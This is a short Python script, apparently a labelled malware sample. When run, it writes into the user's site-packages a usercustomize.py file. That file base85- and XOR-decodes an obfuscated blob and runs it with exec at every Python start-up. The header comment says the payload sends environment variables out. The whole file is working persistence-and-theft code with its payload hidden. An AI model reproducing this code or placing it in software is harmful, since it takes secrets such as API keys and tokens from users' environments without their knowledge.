# Harmful: writes a usercustomize.py into the user site directory that XOR/base85-decodes and runs env-exfiltration code at every Python start-up.
import os
import site

_K = "cfg"
_P = (
    "3JVtu6ca-U6i-GC5D5uSMiLPU3kn2D5d#($0~8l*6A>R>X+}pwMiLPU3kn2D5d#($0~8lX5)ldr69WlLL=P7d7g<S2QeR(9Q&vq^"
    "S5rt<S5`<CL`y>q6buMS2NMbt6;B5b1Q$*S5J&<I5DpOu2}(~%1_%TU0s>1<OG6S44g&}l5?WDDZ3Z3$1{M=TBOd?*7Z(o*4P0$QMn^*y1`ri("
)

TEMPLATE = '''import base64 as _b
_k = {k!r}.encode()
exec(bytes(c ^ _k[i % len(_k)] for i, c in enumerate(_b.b85decode({p!r}))).decode())
'''


def install():
    target = site.getusersitepackages()
    os.makedirs(target, exist_ok=True)
    path = os.path.join(target, "usercustomize.py")
    existing = ""
    if os.path.exists(path):
        with open(path) as fh:
            existing = fh.read()
    if _P not in existing:
        with open(path, "a") as fh:
            fh.write("\n" + TEMPLATE.format(k=_K, p=_P))


install()
